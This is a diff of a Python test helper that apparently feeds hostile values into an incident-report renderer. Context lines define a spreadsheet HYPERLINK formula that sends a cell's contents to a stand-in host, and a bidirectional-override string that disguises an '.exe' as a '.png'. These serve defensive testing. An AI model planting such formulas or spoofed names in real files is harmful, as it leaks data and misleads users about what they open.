@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import copy
 import json
+import re
 from typing import TYPE_CHECKING, Any
 
 from incident_lib import paths, report
@@ -24,13 +25,11 @@ FORMULA = '=HYPERLINK("http://e.example/?"&A1,"x")'
 # Marks that turn what follows from right to left, and an override; nothing ends any of them.
 TURNED = "\u2067\u202b\u200f\u05d0\u05d1 \u202egnp.exe"
 
-# What nobody else has a say in: moments, and words of fixed sets.
+# What nobody else has a say in: words of fixed sets, and moments.
 _OURS = frozenset(
-    (
-        *("schema_version", "status", "started_at", "heartbeat_at", "finished_at", "purpose_since", "seen_at"),
-        *("incident_ended_at", "blocked_since", "blocked_for", "blocks", "would_block", "state", "kind", "answer"),
-    )
+    ("schema_version", "status", "blocked_for", "blocks", "would_block", "state", "kind", "answer")
 )
+_MOMENT = re.compile(r"\d{4}-\d\d-\d\dT")
 _ENDS = ("succeeded", "succeeded", "succeeded", "dry-run", "refused", "failed", "killed", "running")
 _ERROR = {
     "what": "The step build failed.",
@@ -102,7 +101,7 @@ def _hostile(thing: Any, text: str, key: str = "") -> Any:
         return {names[name]: _hostile(value, text, name) for name, value in thing.items()}
     if isinstance(thing, list):
         return [_hostile(value, text) for value in thing]
-    return text if isinstance(thing, str) else thing
+    return text if isinstance(thing, str) and not _MOMENT.match(thing) else thing
 
 
 def _of_fleet(folder: Path, number: int) -> Path:
@@ -122,6 +121,9 @@ def _of_fleet(folder: Path, number: int) -> Path:
     contents["blocked_since"] = {
         purpose: [[at, share(count)] for at, count in points] for purpose, points in contents["blocked_since"].items()
     }
+    if recovery := contents.get("recovery"):
+        recovery |= {key: share(recovery[key]) for key in ("blocked", "recovered")}
+        recovery["over_time"] = [[at, share(count)] for at, count in recovery["over_time"]]
     return kept(folder, {**contents, "environment": name}, f"{name}-run")
 
 
@@ -134,4 +136,5 @@ def _stopped(contents: Contents, how: str) -> Contents:
     before |= {"seen_at": {"before": contents["seen_at"]["before"]}, "example": {**contents["example"], "after": []}}
     error = _ERROR if how in ("failed", "refused") else None
     steps = [] if how in ("dry-run", "refused") else contents["steps"][:1]
-    return copy.deepcopy({**contents, **status, **beating, **never, **before, "error": error, "steps": steps})
+    seen = {key: value for key, value in contents.items() if key != "recovery"}
+    return copy.deepcopy({**seen, **status, **beating, **never, **before, "error": error, "steps": steps})
